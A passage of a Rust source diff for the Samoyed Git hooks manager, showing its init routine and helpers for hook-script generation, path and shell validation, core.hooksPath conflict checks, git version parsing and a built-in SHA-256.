+        && version < MIN_GIT_VERSION
+    {
+        log(
+            LogLevel::Warn,
+            &format!("{} (found {})", WARN_GIT_TOO_OLD, version),
+        );
+    }
+
+    // Git only ever invokes the hooks it knows; anything else must be called by hand
+    if !extra_hooks.is_empty() {
+        log(
+            LogLevel::Warn,
+            &format!("{}: {}", WARN_EXTRA_HOOKS, extra_hooks.join(", ")),
+        );
+    }
+
+    // Two managers fighting over core.hooksPath break hooks silently
+    if !options.ignore_hook_managers {
+        let found = find_other_hook_managers(&git_root);
+        if !found.is_empty() {
+            if options.strict {
+                return Err(InitError::OtherHookManagers { found });
+            }
+            log(
+                LogLevel::Warn,
+                &hook_managers_message(WARN_OTHER_HOOK_MANAGERS, &found),
+            );
+        }
+    }
+
+    // Hooks that commit (or tools they call) need an identity; this is advisory
+    if options.check_git_identity {
+        let missing = missing_git_identity()?;
+        if !missing.is_empty() {
+            if options.strict {
+                return Err(InitError::GitIdentityMissing { missing });
+            }
+            log(
+                LogLevel::Warn,
+                &identity_message(WARN_GIT_IDENTITY_MISSING, &missing),
+            );
+        }
+    }
+
+    // Don't clobber hooks managed by another tool
+    if !options.force {
+        check_hooks_path_conflict(&git_root, &samoyed_dir)?;
+    }
+
+    // Create directory structure
+    let mut actions = create_directory_structure(&samoyed_dir, dry_run)?;
+
+    // Copy wrapper script to _/samoyed
+    actions.extend(copy_wrapper_script(&samoyed_dir, dry_run)?);
+
+    // Create hook scripts in _ directory
+    actions.extend(create_hook_scripts(
+        &samoyed_dir,
+        &script_names,
+        shell,
+        dry_run,
+    )?);
+
+    // Create sample pre-commit hook
+    if !options.no_samples {
+        actions.extend(create_sample_pre_commit(
+            &samoyed_dir,
+            shell,
+            options.overwrite_samples,
+            dry_run,
+        )?);
+    }
+
+    // Back up native hooks before core.hooksPath makes Git bypass them
+    let mut backed_up_from = None;
+    if !options.no_backup {
+        let native_hooks_dir = get_git_common_dir()?.join(NATIVE_HOOKS_DIR_NAME);
+        let backups = backup_native_hooks(&native_hooks_dir, &samoyed_dir, dry_run)?;
+        if !backups.is_empty() {
+            backed_up_from = Some(native_hooks_dir);
+        }
+        actions.extend(backups);
+    }
+
+    // Set git config core.hooksPath
+    let config_action = set_git_hooks_path(&git_root, &samoyed_dir, dry_run)?;
+    let hooks_path = match &config_action {
+        InitAction::GitConfig { value, .. } => Some(value.clone()),
+        _ => None,
+    };
+    actions.push(config_action);
+
+    // Create .gitignore in _ directory, or report the one written with the lock
+    let gitignore_action = match init_lock.as_mut() {
+        Some(lock) => lock.gitignore.take(),
+        None => create_gitignore(&samoyed_dir, dry_run)?,
+    };
+    actions.extend(gitignore_action);
+
+    // Run the onboarding command; a failure only warns unless strict
+    if let Some(command) = options.post_install.as_deref()
+        && !dry_run
+        && let Err(err) = run_post_install(&git_root, command)
+    {
+        if options.strict {
+            return Err(InitError::PostInstallFailed { reason: err });
+        }
+        log(
+            LogLevel::Warn,
+            &format!("{}: {}", WARN_POST_INSTALL_FAILED, err),
+        );
+    }
+
+    Ok(InitReport {
+        samoyed_dir: Some(samoyed_dir),
+        hooks_path,
+        hooks,
+        extra_hooks,
+        bypassed: false,
+        backed_up_from,
+        actions,
+    })
+}
+
+/// Find configuration of other Git hook managers at the repository root
+///
+/// # Arguments
+///
+/// * `git_root` - The root directory of the git repository
+///
+/// # Returns
+///
+/// Returns a `Name (path)` entry for each marker in `OTHER_HOOK_MANAGERS` that exists
+fn find_other_hook_managers(git_root: &Path) -> Vec<String> {
+    OTHER_HOOK_MANAGERS
+        .iter()
+        .filter(|(path, _)| git_root.join(path).exists())
+        .map(|(path, name)| format!("{} ({})", name, path))
+        .collect()
+}
+
+/// Describe the other hook managers found and what to do about them
+///
+/// # Arguments
+///
+/// * `prefix` - The warning or error message to start with
+/// * `found` - The `Name (path)` entries from `find_other_hook_managers`
+///
+/// # Returns
+///
+/// Returns the message shown by `init`
+fn hook_managers_message(prefix: &str, found: &[String]) -> String {
+    format!(
+        "{} (found: {}); migrate their hooks (`samoyed migrate` imports Husky) and remove them",
+        prefix,
+        found.join(", ")
+    )
+}
+
+/// Describe unset git identity keys and how to set them
+///
+/// # Arguments
+///
+/// * `prefix` - The warning or error message to start with
+/// * `missing` - The unset config keys
+///
+/// # Returns
+///
+/// Returns the message shown for `init --check-git-identity`
+fn identity_message(prefix: &str, missing: &[&str]) -> String {
+    format!(
+        "{} (missing: {}; set them with `git config --global`)",
+        prefix,
+        missing.join(", ")
+    )
+}
+
+/// Run the `init --post-install` command through `sh -c` from the git root
+///
+/// The command's output is streamed to stderr, keeping stdout free for the
+/// `--format json` result.
+///
+/// # Arguments
+///
+/// * `git_root` - The root directory of the git repository
+/// * `command` - The shell command to run
+///
+/// # Returns
+///
+/// Returns `Ok(())` if the command exits successfully, or a description of how
+/// it failed
+fn run_post_install(git_root: &Path, command: &str) -> Result<(), String> {
+    let status = Command::new("sh")
+        .args(["-c", command])
+        .current_dir(git_root)
+        .stdout(Stdio::from(io::stderr()))
+        .status()
+        .map_err(|e| format!("'{}': {}", command, e))?;
+    if status.success() {
+        return Ok(());
+    }
+    Err(match status.code() {
+        Some(code) => format!("'{}' exited with code {}", command, code),
+        None => format!("'{}' was terminated by a signal", command),
+    })
+}
+
+/// Fail if core.hooksPath is already set to a directory Samoyed does not manage
+///
+/// Values pointing to this samoyed directory, or to any directory containing a
+/// Samoyed wrapper script (e.g. a previous samoyed dirname), are not conflicts.
+///
+/// # Arguments
+///
+/// * `git_root` - The root directory of the git repository
+/// * `samoyed_dir` - Path to the samoyed directory
+///
+/// # Returns
+///
+/// Returns Ok(()) if init may set core.hooksPath, or `InitError::HooksPathConflict`
+/// naming the existing value otherwise
+fn check_hooks_path_conflict(git_root: &Path, samoyed_dir: &Path) -> Result<(), InitError> {
+    let Some(hooks_path) = get_git_hooks_path()? else {
+        return Ok(());
+    };
+
+    if hooks_path_matches(git_root, samoyed_dir, &hooks_path)?
+        || git_root
+            .join(&hooks_path)
+            .join(WRAPPER_SCRIPT_NAME)
+            .is_file()
+    {
+        return Ok(());
+    }
+
+    Err(InitError::HooksPathConflict { hooks_path })
+}
+
+/// Check whether a core.hooksPath value points to the samoyed `_` directory
+///
+/// The value is resolved against the git root (Git resolves relative values the
+/// same way), so both relative and absolute values are recognized.
+///
+/// # Arguments
+///
+/// * `git_root` - The root directory of the git repository
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `hooks_path` - The core.hooksPath value
+///
+/// # Returns
+///
+/// Returns whether both paths resolve to the same directory, or an error message
+/// if either cannot be resolved
+fn hooks_path_matches(
+    git_root: &Path,
+    samoyed_dir: &Path,
+    hooks_path: &str,
+) -> Result<bool, String> {
+    let configured = canonicalize_allowing_nonexistent(&git_root.join(hooks_path))
+        .map_err(|e| format!("{}: {}", ERR_FAILED_CANONICALIZE_SAMOYED, e))?;
+    let expected = canonicalize_allowing_nonexistent(&samoyed_dir.join(WRAPPER_DIR_NAME))
+        .map_err(|e| format!("{}: {}", ERR_FAILED_CANONICALIZE_SAMOYED, e))?;
+    Ok(configured == expected)
+}
+
+/// Resolve the hooks selected with `--hooks` against `GIT_HOOKS`
+///
+/// The result follows the order of `GIT_HOOKS` and contains each hook once.
+///
+/// # Arguments
+///
+/// * `requested` - The requested hook names, or `None` for all hooks
+///
+/// # Returns
+///
+/// Returns the selected hook names, or an error listing the valid hook names
+/// if any requested name is unknown
+fn select_hooks(requested: Option<&[String]>) -> Result<Vec<&'static str>, String> {
+    let Some(requested) = requested else {
+        return Ok(GIT_HOOKS.to_vec());
+    };
+
+    if let Some(unknown) = requested
+        .iter()
+        .find(|name| !GIT_HOOKS.contains(&name.as_str()))
+    {
+        return Err(format!(
+            "{} '{}' (valid hooks: {})",
+            ERR_UNKNOWN_HOOK,
+            unknown,
+            GIT_HOOKS.join(", ")
+        ));
+    }
+
+    Ok(GIT_HOOKS
+        .iter()
+        .copied()
+        .filter(|hook_name| requested.iter().any(|name| name == hook_name))
+        .collect())
+}
+
+/// Validate the non-standard hook names selected with `--extra-hooks`
+///
+/// Names must be usable as file names in the `_` directory: letters, digits,
+/// `-` and `_` only. Hooks from `GIT_HOOKS` belong in `--hooks`, and names the
+/// wrapper directory already uses are reserved. The result keeps the requested
+/// order and contains each name once.
+///
+/// # Arguments
+///
+/// * `requested` - The requested extra hook names
+///
+/// # Returns
+///
+/// Returns the selected names, or an error naming the first invalid entry
+fn select_extra_hooks(requested: &[String]) -> Result<Vec<String>, String> {
+    let mut extra_hooks: Vec<String> = Vec::with_capacity(requested.len());
+    for name in requested {
+        let reason = if name.is_empty()
+            || !name
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+        {
+            Some("use only letters, digits, '-' and '_'")
+        } else if GIT_HOOKS.contains(&name.as_str()) {
+            Some("it is a standard hook, select it with --hooks")
+        } else if [WRAPPER_SCRIPT_NAME, DISABLED_MARKER_NAME].contains(&name.as_str()) {
+            Some("the name is reserved by Samoyed")
+        } else {
+            None
+        };
+        if let Some(reason) = reason {
+            return Err(format!("{} '{}': {}", ERR_INVALID_EXTRA_HOOK, name, reason));
+        }
+        if !extra_hooks.contains(name) {
+            extra_hooks.push(name.clone());
+        }
+    }
+    Ok(extra_hooks)
+}
+
+/// Find the git user identity settings that have no value
+///
+/// Queries the effective configuration, so values from local, global and
+/// system config (and `GIT_CONFIG_*` overrides) all count.
+///
+/// # Returns
+///
+/// Returns the keys from `GIT_IDENTITY_KEYS` that are unset or empty, or an error
+/// message if git cannot be executed
+fn missing_git_identity() -> Result<Vec<&'static str>, String> {
+    let mut missing = Vec::new();
+    for key in GIT_IDENTITY_KEYS {
+        let output = Command::new("git")
+            .args(["config", "--get", key])
+            .output()
+            .map_err(|e| format!("{}: {}", ERR_FAILED_EXECUTE_GIT, e))?;
+        if !output.status.success() || String::from_utf8_lossy(&output.stdout).trim().is_empty() {
+            missing.push(*key);
+        }
+    }
+    Ok(missing)
+}
+
+/// Validate the interpreter selected with `--shell`
+///
+/// Accepts a command name looked up through `/usr/bin/env` (e.g. `bash`) or an
+/// absolute path (e.g. `/bin/zsh`). Anything that would not form a valid shebang
+/// line, such as whitespace or shell metacharacters, is rejected.
+///
+/// # Arguments
+///
+/// * `shell` - The requested shell
+///
+/// # Returns
+///
+/// Returns the shell unchanged if valid, or an error message otherwise
+fn validate_shell(shell: &str) -> Result<&str, String> {
+    let valid_chars = shell
+        .chars()
+        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '+' | '/'));
+    let valid_form = if shell.starts_with('/') {
+        !shell.ends_with('/')
+    } else {
+        !shell.contains('/')
+    };
+    if shell.is_empty() || !valid_chars || !valid_form {
+        return Err(format!(
+            "{} '{}' (expected a command name like bash or an absolute path like /bin/bash)",
+            ERR_INVALID_SHELL, shell
+        ));
+    }
+    Ok(shell)
+}
+
+/// Replace the shebang line of a script template with one for `shell`
+///
+/// Command names go through `/usr/bin/env`; absolute paths are used directly.
+fn with_shebang(template: &str, shell: &str) -> String {
+    let body = template.split_once('\n').map_or("", |(_, body)| body);
+    if shell.starts_with('/') {
+        format!("#!{}\n{}", shell, body)
+    } else {
+        format!("#!/usr/bin/env {}\n{}", shell, body)
+    }
+}
+
+/// Build the hook script that Git runs from the `_` directory
+///
+/// For any shell other than the default, the script also records the shell in
+/// `samoyed_shell` so the wrapper runs the user's hook with the same interpreter.
+///
+/// # Arguments
+///
+/// * `shell` - Interpreter for the hook
+///
+/// # Returns
+///
+/// Returns the hook script contents
+fn hook_script(shell: &str) -> String {
+    if shell == DEFAULT_HOOK_SHELL {
+        return HOOK_SCRIPT_TEMPLATE.to_string();
+    }
+    let script = with_shebang(HOOK_SCRIPT_TEMPLATE, shell);
+    let (shebang, body) = script.split_once('\n').unwrap_or((&script, ""));
+    format!("{}\n{}={}\n{}", shebang, HOOK_SHELL_VARIABLE, shell, body)
+}
+
+/// Read the shell recorded in an installed hook script
+///
+/// # Returns
+///
+/// Returns the value of `samoyed_shell`, or `DEFAULT_HOOK_SHELL` if it is not set
+fn read_hook_shell(content: &str) -> &str {
+    content
+        .lines()
+        .find_map(|line| {
+            line.strip_prefix(HOOK_SHELL_VARIABLE)
+                .and_then(|rest| rest.strip_prefix('='))
+        })
+        .unwrap_or(DEFAULT_HOOK_SHELL)
+}
+
+/// Check whether Samoyed is already installed exactly as `init` would install it
+///
+/// The wrapper script and hook scripts must match the embedded content, hook
+/// scripts must be executable, the sample hook (if expected) and `.gitignore`
+/// must exist, and core.hooksPath must point to the samoyed `_` directory.
+///
+/// # Arguments
+///
+/// * `git_root` - The root directory of the git repository
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `hooks` - The hooks that should be installed
+/// * `shell` - Interpreter the hooks should use
+/// * `with_sample` - Whether the sample pre-commit hook should exist
+///
+/// # Returns
+///
+/// Returns true if running init would change nothing, or an error message if
+/// core.hooksPath cannot be read
+fn is_installation_current(
+    git_root: &Path,
+    samoyed_dir: &Path,
+    hooks: &[&str],
+    shell: &str,
+    with_sample: bool,
+) -> Result<bool, String> {
+    let wrapper_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
+    let content_matches =
+        |path: &Path, expected: &[u8]| fs::read(path).is_ok_and(|content| content == expected);
+    let expected_hook = hook_script(shell);
+
+    let files_current = content_matches(&wrapper_dir.join(WRAPPER_SCRIPT_NAME), &wrapper_script())
+        && hooks.iter().all(|hook_name| {
+            let hook_path = wrapper_dir.join(hook_name);
+            content_matches(&hook_path, expected_hook.as_bytes()) && is_executable(&hook_path)
+        })
+        && (!with_sample || samoyed_dir.join(SAMPLE_HOOK_NAME).is_file())
+        && wrapper_dir.join(GITIGNORE_NAME).is_file();
+    if !files_current {
+        return Ok(false);
+    }
+
+    let configured = get_git_hooks_path()?;
+    let check = check_hooks_path(git_root, samoyed_dir, configured.as_deref());
+    Ok(check.status == CheckStatus::Ok)
+}
+
+/// Render the actions of an init run in the requested output format
+///
+/// Human output is one "Would ..." line per action. JSON output is an array of
+/// objects with an `action` discriminator (`create_dir`, `write_file`, `git_config`).
+///
+/// # Arguments
+///
+/// * `actions` - The planned actions
+/// * `format` - The output format
+///
+/// # Returns
+///
+/// Returns the rendered plan
+fn render_init_plan(actions: &[InitAction], format: OutputFormat) -> String {
+    match format {
+        OutputFormat::Human => actions
+            .iter()
+            .map(InitAction::describe)
+            .collect::<Vec<_>>()
+            .join("\n"),
+        OutputFormat::Json if actions.is_empty() => "[]".to_string(),
+        OutputFormat::Json => {
+            let items = actions
+                .iter()
+                .map(|action| format!("  {}", action.to_json()))
+                .collect::<Vec<_>>()
+                .join(",\n");
+            format!("[\n{items}\n]")
+        }
+    }
+}
+
+/// Encode a string as a JSON string literal, including the surrounding quotes
+///
+/// # Arguments
+///
+/// * `value` - The string to encode
+///
+/// # Returns
+///
+/// Returns the quoted and escaped JSON string
+fn json_string(value: &str) -> String {
+    let mut encoded = String::with_capacity(value.len() + 2);
+    encoded.push('"');
+    for c in value.chars() {
+        match c {
+            '"' => encoded.push_str("\\\""),
+            '\\' => encoded.push_str("\\\\"),
+            '\n' => encoded.push_str("\\n"),
+            '\r' => encoded.push_str("\\r"),
+            '\t' => encoded.push_str("\\t"),
+            c if (c as u32) < 0x20 => encoded.push_str(&format!("\\u{:04x}", c as u32)),
+            c => encoded.push(c),
+        }
+    }
+    encoded.push('"');
+    encoded
+}
+
+/// Compute the SHA-256 digest of `data` as a lowercase hex string
+///
+/// A small self-contained implementation keeps Samoyed free of runtime
+/// dependencies beyond clap.
+///
+/// # Arguments
+///
+/// * `data` - The bytes to hash
+///
+/// # Returns
+///
+/// Returns the 64-character hex digest
+fn sha256_hex(data: &[u8]) -> String {
+    let mut state = SHA256_H0;
+
+    let bit_len = (data.len() as u64).wrapping_mul(8);
+    let mut message = data.to_vec();
+    message.push(0x80);
+    while message.len() % 64 != 56 {
+        message.push(0);
+    }
+    message.extend_from_slice(&bit_len.to_be_bytes());
+
+    for block in message.chunks_exact(64) {
+        sha256_compress(&mut state, block);
+    }
+
+    state.iter().map(|word| format!("{word:08x}")).collect()
+}
+
+/// Process a single 64-byte block of the SHA-256 message schedule
+fn sha256_compress(state: &mut [u32; 8], block: &[u8]) {
+    let mut w = [0u32; 64];
+    for (i, chunk) in block.chunks_exact(4).enumerate() {
+        w[i] = u32::from_be_bytes([chunk[0], chunk[1], chunk[2], chunk[3]]);
+    }
+    for i in 16..64 {
+        let s0 = w[i - 15].rotate_right(7) ^ w[i - 15].rotate_right(18) ^ (w[i - 15] >> 3);
+        let s1 = w[i - 2].rotate_right(17) ^ w[i - 2].rotate_right(19) ^ (w[i - 2] >> 10);
+        w[i] = w[i - 16]
+            .wrapping_add(s0)
+            .wrapping_add(w[i - 7])
+            .wrapping_add(s1);
+    }
+
+    let [mut a, mut b, mut c, mut d, mut e, mut f, mut g, mut h] = *state;
+    for i in 0..64 {
+        let s1 = e.rotate_right(6) ^ e.rotate_right(11) ^ e.rotate_right(25);
+        let ch = (e & f) ^ (!e & g);
+        let temp1 = h
+            .wrapping_add(s1)
+            .wrapping_add(ch)
+            .wrapping_add(SHA256_K[i])
+            .wrapping_add(w[i]);
+        let s0 = a.rotate_right(2) ^ a.rotate_right(13) ^ a.rotate_right(22);
+        let maj = (a & b) ^ (a & c) ^ (b & c);
+        let temp2 = s0.wrapping_add(maj);
+
+        h = g;
+        g = f;
+        f = e;
+        e = d.wrapping_add(temp1);
+        d = c;
+        c = b;
+        b = a;
+        a = temp1.wrapping_add(temp2);
+    }
+
+    for (word, value) in state.iter_mut().zip([a, b, c, d, e, f, g, h]) {
+        *word = word.wrapping_add(value);
+    }
+}
+
+/// Parse the output of `git --version`
+///
+/// Distribution suffixes such as `(Apple Git-143)` or `.windows.1` are ignored,
+/// and a missing patch number counts as 0.
+///
+/// # Arguments
+///
+/// * `output` - The text printed by `git --version`, e.g. `git version 2.39.2`
+///
+/// # Returns
+///
+/// Returns the parsed version, or `None` if the text has no version number
+fn parse_git_version(output: &str) -> Option<GitVersion> {
+    let number = output
+        .trim()
+        .strip_prefix("git version ")?
+        .split_whitespace()
+        .next()?;
+    let mut parts = number.split('.').map(|part| {
+        let digits = part
+            .find(|c: char| !c.is_ascii_digit())
+            .unwrap_or(part.len());
+        part[..digits].parse::<u32>().ok()
+    });
+    let major = parts.next()??;
+    let minor = parts.next()??;
+    let patch = parts.next().flatten().unwrap_or(0);
+    Some(GitVersion {
+        major,
+        minor,
+        patch,
+    })
+}
+
+/// Query the version of the `git` executable on PATH
+///
+/// # Returns
+///
+/// Returns the parsed version, or `None` if git cannot be run or its output is
+/// not recognized
+fn git_version() -> Option<GitVersion> {
+    let output = Command::new("git").arg("--version").output().ok()?;
+    if !output.status.success() {
+        return None;
+    }
+    parse_git_version(&String::from_utf8_lossy(&output.stdout))
+}
+
+/// Check if SAMOYED environment variable is set to "0" (bypass mode)
+///
+/// # Returns
+///
+/// Returns true if SAMOYED=0, false otherwise
+fn check_bypass_mode() -> bool {
+    matches!(env::var("SAMOYED").as_deref(), Ok("0"))
+}
+
+/// Get the root directory of the current git repository
+///
+/// Runs a single `git rev-parse --is-inside-work-tree --show-toplevel`, which
+/// prints `true` and then the root directory when run inside a working tree.
+/// Git fails the whole command outside a repository and inside a `.git` directory.
+///
+/// # Returns
+///
+/// Returns the absolute path to the git root, or an error if not in a git repo
+fn get_git_root() -> Result<PathBuf, String> {
+    let output = Command::new("git")
+        .args(["rev-parse", "--is-inside-work-tree", "--show-toplevel"])
+        .output()
+        .map_err(|e| format!("{}: {}", ERR_FAILED_EXECUTE_GIT, e))?;
+
+    if !output.status.success() {
+        let current_dir =
+            env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
+        // With GIT_DIR set, git never looks at a `.git` file, so don't blame one
+        let broken_link = if env::var_os("GIT_DIR").is_some() {
+            None
+        } else {
+            find_broken_git_link(&current_dir)
+        };
+        return Err(match broken_link {
+            Some((git_file, gitdir)) => format!(
+                "{}: {} {} ({})",
+                ERR_NOT_GIT_REPO,
+                git_file.display(),
+                ERR_BROKEN_GIT_LINK,
+                gitdir.display()
+            ),
+            None => ERR_NOT_GIT_REPO.to_string(),
+        });
+    }
+
+    let stdout = String::from_utf8(output.stdout)
+        .map_err(|e| format!("Error: Git root path contains invalid UTF-8: {}", e))?;
+    let mut lines = stdout.lines();
+    if lines.next().map(str::trim) != Some("true") {
+        return Err(ERR_NOT_GIT_REPO.to_string());
+    }
+
+    match lines.next().map(str::trim) {
+        Some(git_root) if !git_root.is_empty() => Ok(PathBuf::from(git_root)),
+        _ => Err(ERR_FAILED_GET_GIT_ROOT.to_string()),
+    }
+}
+
+/// Find a `.git` file that links to a gitdir which no longer exists
+///
+/// Linked worktrees and submodules use a `.git` file containing a `gitdir:` line
+/// instead of a `.git` directory. When that gitdir is deleted (for example, by
+/// removing the main repository), git only reports "not a git repository".
+///
+/// # Arguments
+///
+/// * `start` - Directory to search upwards from
+///
+/// # Returns
+///
+/// Returns the `.git` file and the missing gitdir it points to, or `None` if the
+/// nearest `.git` is a directory, is missing, or links to an existing gitdir
+fn find_broken_git_link(start: &Path) -> Option<(PathBuf, PathBuf)> {
+    let git_file = start
+        .ancestors()
+        .map(|dir| dir.join(".git"))
+        .find(|path| path.exists())?;
+    if !git_file.is_file() {
+        return None;
+    }
+
+    let content = fs::read_to_string(&git_file).ok()?;
+    let target = content
+        .lines()
+        .find_map(|line| line.strip_prefix("gitdir:"))?
+        .trim();
+    // Relative gitdir paths are relative to the directory holding the `.git` file
+    let gitdir = git_file.parent()?.join(target);
+    (!gitdir.exists()).then_some((git_file, gitdir))
+}
+
+/// Get the common git directory shared by all worktrees of the repository
+///
+/// Uses `git rev-parse --git-common-dir`, which Git may report relative to the
+/// current directory; relative results are made absolute.
+///
+/// # Returns
+///
+/// Returns the absolute path to the git common directory (usually `.git`), or an error
+fn get_git_common_dir() -> Result<PathBuf, String> {
+    let output = Command::new("git")
+        .args(["rev-parse", "--git-common-dir"])
+        .output()
+        .map_err(|e| format!("{}: {}", ERR_FAILED_EXECUTE_GIT, e))?;
+
+    if !output.status.success() {
+        return Err(ERR_FAILED_GET_GIT_COMMON_DIR.to_string());
+    }
+
+    let common_dir = PathBuf::from(String::from_utf8_lossy(&output.stdout).trim());
+    if common_dir.is_absolute() {
+        return Ok(common_dir);
+    }
+
+    let current_dir =
+        env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
+    Ok(current_dir.join(common_dir))
+}
+
+/// Check whether the current directory belongs to a linked worktree
+///
+/// A linked worktree (created by `git worktree add`) has its own git directory
+/// under `.git/worktrees/`, while its config and hooks settings live in the
+/// common directory shared with the main worktree.
+///
+/// # Returns
+///
+/// Returns true if the git directory differs from the common directory
+fn is_linked_worktree() -> Result<bool, String> {
+    let output = Command::new("git")
+        .args(["rev-parse", "--absolute-git-dir"])
+        .output()
+        .map_err(|e| format!("{}: {}", ERR_FAILED_EXECUTE_GIT, e))?;
+
+    if !output.status.success() {
+        return Err(ERR_FAILED_GET_GIT_DIR.to_string());
+    }
+
+    let git_dir = PathBuf::from(String::from_utf8_lossy(&output.stdout).trim());
+    let common_dir = get_git_common_dir()?;
+    let canonical = |path: &Path| path.canonicalize().unwrap_or_else(|_| path.to_path_buf());
+    Ok(canonical(&git_dir) != canonical(&common_dir))
+}
+
+/// Validate and resolve the samoyed directory path
+///
+/// This function resolves the provided directory name to an absolute path and validates
+/// that it is within the git repository. Handles absolute paths, relative paths with
+/// parent directory references (..), and simple directory names.
+///
+/// # Arguments
+///
+/// * `git_root` - The root directory of the git repository
+/// * `current_dir` - The current working directory
+/// * `dirname` - The proposed directory name for Samoyed
+///
+/// # Returns
+///
+/// Returns the absolute path to the samoyed directory, or an error if invalid or outside git repo
+fn validate_samoyed_dir(
+    git_root: &Path,
+    current_dir: &Path,
+    dirname: &str,
+) -> Result<PathBuf, String> {
+    let git_root_canonical = canonicalize_path(git_root)
+        .map_err(|e| format!("{}: {}", ERR_FAILED_RESOLVE_GIT_ROOT, e))?;
+
+    let provided_path = Path::new(dirname);
+
+    let candidate = if provided_path.is_absolute() {
+        provided_path.to_path_buf()
+    } else {
+        let has_parent = provided_path
+            .components()
+            .any(|component| matches!(component, Component::ParentDir));
+        if has_parent {
+            current_dir.join(provided_path)
+        } else {
+            git_root_canonical.join(provided_path)
+        }
+    };
+
+    let resolved = canonicalize_allowing_nonexistent(&candidate)
+        .map_err(|e| format!("{} '{}': {}", ERR_FAILED_RESOLVE_SAMOYED_DIR, dirname, e))?;
+
+    if !resolved.starts_with(&git_root_canonical) {
+        return Err(format!(
+            "{} (path: {}, git root: {})",
+            ERR_OUTSIDE_GIT_REPO,
+            resolved.display(),
+            git_root_canonical.display()
+        ));
+    }
+
+    Ok(resolved)
+}
+
+/// Canonicalize an existing path into the form used for comparisons and git config
+///
+/// On Windows, `canonicalize` returns extended-length (`\\?\C:\...`) paths. The
+/// prefix is stripped so that paths canonicalized by different routes compare
+/// equal and `strip_prefix` can compute a clean relative path.
+///
+/// # Arguments
+///
+/// * `path` - The existing path to canonicalize
+///
+/// # Returns
+///
+/// Returns the canonical absolute path, or an IO error if it cannot be resolved
+fn canonicalize_path(path: &Path) -> std::io::Result<PathBuf> {
+    let canonical = path.canonicalize()?;
+    #[cfg(windows)]
+    if let Some(stripped) = canonical.to_str().and_then(strip_verbatim_prefix) {
+        return Ok(PathBuf::from(stripped));
+    }
+    Ok(canonical)
+}
+
+/// Strip the Windows extended-length prefix from a drive or UNC path
+///
+/// `\\?\C:\dir` becomes `C:\dir` and `\\?\UNC\server\share` becomes
+/// `\\server\share`. Other verbatim forms (such as volume GUID paths) have no
+/// shorter equivalent and are left alone.
+///
+/// # Returns
+///
+/// Returns the path without the prefix, or `None` if there is nothing to strip
+#[cfg_attr(not(windows), allow(dead_code))]
+fn strip_verbatim_prefix(path: &str) -> Option<String> {
+    let rest = path.strip_prefix(r"\\?\")?;
+    if let Some(unc) = rest.strip_prefix(r"UNC\") {
+        return Some(format!(r"\\{}", unc));
+    }
+    let mut chars = rest.chars();
+    let is_drive = matches!(
+        (chars.next(), chars.next()),
+        (Some(letter), Some(':')) if letter.is_ascii_alphabetic()
+    );
+    is_drive.then(|| rest.to_string())
+}
+
+/// Canonicalize a path, allowing for non-existent components.
+///
+/// This function resolves a path to its absolute form, handling cases where
+/// some components of the path don't exist yet. It walks up the path hierarchy
+/// until it finds an existing ancestor, canonicalizes that, then appends the
+/// remaining non-existent components.
+///
+/// # Arguments
+///
+/// * `path` - The path to canonicalize
+///
+/// # Returns
+///
+/// Returns the canonicalized absolute path, or an IO error if the path cannot be resolved
+///
+/// # Example
+///
+/// If `/home/user` exists but `/home/user/new_dir` doesn't, calling this with
+/// `/home/user/new_dir/file.txt` will return `/home/user/new_dir/file.txt` as
+/// an absolute path based on the canonical form of `/home/user`.
+///
+/// Dangling symbolic links are followed to their (missing) target, so a link
+/// pointing outside the repository cannot hide where a directory would be created.
+fn canonicalize_allowing_nonexistent(path: &Path) -> std::io::Result<PathBuf> {
+    resolve_allowing_nonexistent(path, 0)
+}
+
+/// Implementation of `canonicalize_allowing_nonexistent` that tracks how many
+/// dangling symbolic links have been followed to stop on link cycles.
+fn resolve_allowing_nonexistent(path: &Path, depth: usize) -> std::io::Result<PathBuf> {
+    if depth > MAX_SYMLINK_DEPTH {
+        return Err(std::io::Error::other(ERR_TOO_MANY_SYMLINKS));
+    }
+    if path.exists() {
+        return canonicalize_path(path);
+    }
+
+    let mut components = Vec::new();
+    let mut current = path;
+
+    loop {
+        if current.exists() {
+            let mut canonical = canonicalize_path(current)?;
+            for component in components.iter().rev() {
+                canonical.push(component);
+            }
+            return Ok(canonical);
+        }
+
+        // `exists()` is false for a link whose target is missing; follow it
+        if current.is_symlink() {
+            let target = fs::read_link(current)?;
+            let target = match current.parent() {
+                Some(parent) if target.is_relative() => parent.join(target),
+                _ => target,
+            };
+            let mut canonical = resolve_allowing_nonexistent(&target, depth + 1)?;
+            for component in components.iter().rev() {
+                canonical.push(component);
+            }
+            return Ok(canonical);
+        }
+
+        match current.file_name() {
+            Some(name) => components.push(name.to_os_string()),
+            None => {
+                // We've reached a root that doesn't exist; this means the entire path is invalid
+                return Err(std::io::Error::new(
+                    std::io::ErrorKind::NotFound,
+                    ERR_UNABLE_RESOLVE_PATH,
+                ));
+            }
+        }
+
+        match current.parent() {
+            Some(parent) => current = parent,
+            None => {
+                return Err(std::io::Error::new(
+                    std::io::ErrorKind::NotFound,
+                    ERR_UNABLE_RESOLVE_PARENT,
+                ));
+            }
+        }
+    }
+}
+
+/// Create the directory structure for Samoyed
+///
+/// Creates the main samoyed directory and the _ subdirectory.
+///
+/// # Arguments
+///
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `dry_run` - Only report the directories that would be created
+///
+/// # Returns
+///
+/// Returns a `CreateDir` action for each directory that did not exist yet,
+/// or an error message on failure
+fn create_directory_structure(
+    samoyed_dir: &Path,
+    dry_run: bool,
+) -> Result<Vec<InitAction>, InitError> {
+    let underscore_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
+    let actions: Vec<InitAction> = [samoyed_dir.to_path_buf(), underscore_dir.clone()]
+        .into_iter()
+        .filter(|dir| !dir.exists())
+        .map(|path| InitAction::CreateDir { path })
+        .collect();
+
+    if dry_run {
+        return Ok(actions);
+    }
+
+    // Create main samoyed directory
+    fs::create_dir_all(samoyed_dir)
+        .map_err(InitError::io(ERR_FAILED_CREATE_SAMOYED_DIR, samoyed_dir))?;
+
+    // Create _ subdirectory
+    fs::create_dir_all(&underscore_dir).map_err(InitError::io(
+        ERR_FAILED_CREATE_WRAPPER_DIR,
